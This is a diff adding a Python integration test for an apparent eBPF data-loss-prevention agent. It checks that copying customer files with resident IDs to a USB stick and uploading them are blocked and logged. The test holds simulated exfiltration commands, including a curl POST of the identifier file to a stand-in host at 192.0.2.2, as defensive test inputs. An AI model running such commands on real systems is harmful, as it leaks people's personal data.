@@ -1,0 +1,219 @@
+# SPDX-License-Identifier: Apache-2.0
+"""In a guest with a FAT stick: what people do with customer files, on kernel tier 1 or 2.
+
+stick.py TIER: lsm or fmod_ret, what this guest must settle on. The host reads the stick's image afterwards (stick_image.py)."""
+
+import os
+import socket
+import subprocess
+import sys
+import threading
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import lab as weir  # noqa: E402
+from lab import check  # noqa: E402
+
+STICK = "/media/stick"
+DATA = "/srv/data"
+HOOKS = {"lsm": ("lsm/file_permission", "lsm/socket_sendmsg"),
+         "fmod_ret": ("fmod_ret/security_file_permission", "fmod_ret/security_socket_sendmsg")}
+
+
+def write(path, text):
+    with open(path, "w") as out:
+        out.write(text)
+
+
+def shell(command):
+    return subprocess.run(["bash", "-c", command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
+
+
+WAYS = {
+    "cp": "cp {source} {target}",
+    "dd": "dd if={source} of={target} bs=100",
+    "python3": "python3 -c 'import sys, pathlib; pathlib.Path(sys.argv[2]).write_text(open(sys.argv[1]).read())' "
+               "{source} {target}",
+    "cat": "cat {source} > {target}",
+}
+
+
+def plug():
+    disk = subprocess.run(["usb", "plug", "0"], stdout=subprocess.PIPE, text=True, check=True).stdout.strip()
+    os.makedirs(STICK, exist_ok=True)
+    subprocess.run(["mount", disk + "1", STICK], check=True)
+
+
+def check_doctor(lab, tier):
+    report = lab.doctor()
+    channels = {channel["channel"]: channel for channel in report["channels"]}
+    number = {"lsm": 1, "fmod_ret": 2}[tier]
+    for name in ("removable", "network"):
+        channel = channels[name]
+        check(channel["state"] == "enforced", "%s is %s" % (name, channel["state"]))
+        check(channel["tier"] == number, "%s is on tier %s" % (name, channel["tier"]))
+        hooks = {evidence["hook"]: evidence for evidence in channel["evidence"]}
+        wanted = HOOKS[tier][0 if name == "removable" else 1]
+        check(wanted in hooks, "%s without evidence of %s: %s" % (name, wanted, list(hooks)))
+        check(hooks[wanted]["denied"] and hooks[wanted]["passed_clean"], "evidence of %s: %s" % (wanted, hooks[wanted]))
+        check(channel["blind_spots"], "%s names no blind spot" % name)
+    check(channels["at_rest"]["state"] == "blind", "at_rest is %s" % channels["at_rest"]["state"])
+
+
+def check_block(event, tier, hook, process, identifiers):
+    check(event["alert"] and event["action"] == "block", "not an alert that blocked: %s" % event)
+    check(event["tier"] == tier, "tier %s" % event["tier"])
+    check(event["hook"] == hook, "hook %s" % event["hook"])
+    check(event["process"]["name"] == process, "process %s" % event["process"])
+    check(event["process"]["executable"].endswith(process), "executable %s" % event["process"])
+    check(not any(i in str(event) for i in identifiers), "an identifier is in the event")
+
+
+def refused_copies(lab, tier, source, identifiers, kind):
+    """Every way of copying source to the stick fails with an error and leaves nothing; one alert each."""
+    for process, way in WAYS.items():
+        target = "%s/%s-%s.csv" % (STICK, kind, process)
+        result = shell(way.format(source=source, target=target))
+        check(result.returncode != 0, "%s of the %s file went through" % (process, kind))
+        check("ermission denied" in result.stdout, "%s says: %s" % (process, result.stdout))
+        event = lab.event(path=target, action="block")
+        check_block(event, tier, HOOKS[tier][0], process, identifiers)
+        check(event["device"]["serial_number"] == "STICK0", "device %s" % event.get("device"))
+        check(event["device"]["bus"] == "usb", "device %s" % event.get("device"))
+        check(event["rule"] == "removable-bulk-identity", "rule %s" % event["rule"])
+        count = lab.counted(event, "cn_resident_id")
+        check(count == len(identifiers) if kind == "labelled" or process != "dd" else count >= 5, "counts %s" % event["counts"])
+        left = open(target, "rb").read() if os.path.exists(target) else b""
+        check(not any(i.encode() in left for i in identifiers), "%s left identifiers in the %s copy" % (process, kind))
+
+
+def clean_copies(lab, source):
+    """The same table of nobody passes every way, byte for byte, and is an event too."""
+    for process, way in WAYS.items():
+        target = "%s/clean-%s.csv" % (STICK, process)
+        result = shell(way.format(source=source, target=target))
+        check(result.returncode == 0, "%s of the clean file: %s" % (process, result.stdout))
+        check(open(source).read() == open(target).read(), "%s changed the clean file" % process)
+        event = lab.event(path=target)
+        check(event["action"] in ("audit", "allow") and not event["alert"], "clean copy: %s" % event)
+        check(event["device"]["serial_number"] == "STICK0", "device %s" % event.get("device"))
+        check(event["process"]["name"] in (process, "bash"), "process %s" % event["process"])
+        check(event["tier"] and event["hook"], "no tier or hook: %s" % event)
+        check(event["counts"] == [], "counts %s" % event["counts"])
+
+
+class Server(threading.Thread):
+    """Takes HTTP requests in another network namespace and keeps what came."""
+
+    def __init__(self, address):
+        super().__init__(daemon=True)
+        self.bodies = []
+        self.ready = threading.Event()
+        self.address = address
+
+    def run(self):
+        import ctypes
+        handle = os.open("/run/netns/outside", os.O_RDONLY)
+        if ctypes.CDLL(None, use_errno=True).setns(handle, 0) != 0:
+            raise OSError(ctypes.get_errno(), "setns")
+        server = socket.socket()
+        server.bind(self.address)
+        server.listen()
+        self.ready.set()
+        while True:
+            connection, _ = server.accept()
+            connection.settimeout(2)
+            body = b""
+            try:
+                while True:
+                    data = connection.recv(65536)
+                    if not data:
+                        break
+                    body += data
+                    if b"\r\n\r\n" in body and len(body) > 600:
+                        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+            except OSError:
+                pass
+            self.bodies.append(body)
+            connection.close()
+
+
+def make_outside():
+    for command in ("ip netns add outside", "ip link add near type veth peer name far netns outside",
+                    "ip addr add 192.0.2.1/30 dev near", "ip link set near up",
+                    "ip -n outside addr add 192.0.2.2/30 dev far", "ip -n outside link set far up"):
+        subprocess.run(command.split(), check=True)
+    server = Server(("192.0.2.2", 8080))
+    server.start()
+    check(server.ready.wait(30), "the outside server did not start")
+    return server
+
+
+def uploads(lab, tier, dirty, clean, identifiers):
+    server = make_outside()
+    post = "curl -sS --noproxy '*' -m 20 -X POST --data-binary @%s http://192.0.2.2:8080/upload"
+    result = shell(post % clean)
+    check(result.returncode == 0, "the clean upload: %s" % result.stdout)
+    result = shell(post % dirty)
+    check(result.returncode != 0, "the upload went through")
+    event = lab.event(channel="network", action="block")
+    check_block(event, tier, HOOKS[tier][1], "curl", identifiers)
+    check(event["destination"] == {"ip": "192.0.2.2", "port": 8080, "protocol": "tcp"}, "destination %s" % event["destination"])
+    check(lab.counted(event, "cn_resident_id") == len(identifiers), "counts %s" % event["counts"])
+    arrived = b"".join(server.bodies)
+    check(b"customer 1" in arrived, "nothing of the clean upload arrived")
+    check(not any(i.encode() in arrived for i in identifiers), "identifiers arrived")
+
+
+def survives_kill(lab, tier, source, identifiers):
+    lab.kill("agent")
+    target = STICK + "/orphan.csv"
+    result = shell(WAYS["cp"].format(source=source, target=target))
+    check(result.returncode != 0 and "ermission denied" in result.stdout, "without the agent: %s" % result.stdout)
+    lab.start_agent()
+    check_block(lab.event(path=target, action="block"), tier, HOOKS[tier][0], "cp", identifiers)
+    target = STICK + "/after.csv"
+    result = shell(WAYS["cp"].format(source=source, target=target))
+    check(result.returncode != 0, "after the restart: %s" % result.stdout)
+    check_block(lab.event(path=target, action="block"), tier, HOOKS[tier][0], "cp", identifiers)
+    events = lab.events()
+    seen = [e["kernel_sequence"] for e in events if int(e.get("kernel_sequence", 0) or 0)]
+    check(len(seen) == len(set(seen)), "a kernel record was reported twice")
+    sequences = [e["sequence"] for e in events]
+    check(sequences == list(range(1, len(sequences) + 1)), "gaps or doubles at the console: %s" % sequences)
+
+
+def scenario(tier):
+    lab = weir.Lab("/srv/lab", pin_dir="/sys/fs/bpf/weir", watch=[DATA])
+    try:
+        run(lab, tier)
+    except weir.Failure:
+        lab.logs()
+        raise
+    finally:
+        lab.stop()
+        subprocess.run(["umount", STICK], check=False, stderr=subprocess.DEVNULL)
+        subprocess.run(["usb", "unplug", "0"], check=False)
+
+
+def run(lab, tier):
+    os.makedirs(DATA, exist_ok=True)
+    os.makedirs("/opt/elsewhere", exist_ok=True)
+    lab.start_all()
+    check_doctor(lab, tier)
+    plug()
+    labelled, unlabelled, clean = weir.customers(0, 20), weir.customers(20, 20), weir.customers(40, 20, valid=False)
+    write(DATA + "/customers.csv", labelled)
+    event = lab.event(path=DATA + "/customers.csv")
+    check(lab.counted(event, "cn_resident_id") == 20 and event["channel"] == "file", "local event %s" % event)
+    write("/opt/elsewhere/customers.csv", unlabelled)
+    write("/opt/elsewhere/clean.csv", clean)
+    refused_copies(lab, tier, DATA + "/customers.csv", weir.identifiers(labelled), "labelled")
+    refused_copies(lab, tier, "/opt/elsewhere/customers.csv", weir.identifiers(unlabelled), "unlabelled")
+    clean_copies(lab, "/opt/elsewhere/clean.csv")
+    uploads(lab, tier, "/opt/elsewhere/customers.csv", "/opt/elsewhere/clean.csv", weir.identifiers(unlabelled))
+    survives_kill(lab, tier, DATA + "/customers.csv", weir.identifiers(labelled))
+    check_doctor(lab, tier)
+
+
+if __name__ == "__main__":
+    weir.main(lambda: scenario(sys.argv[1]))
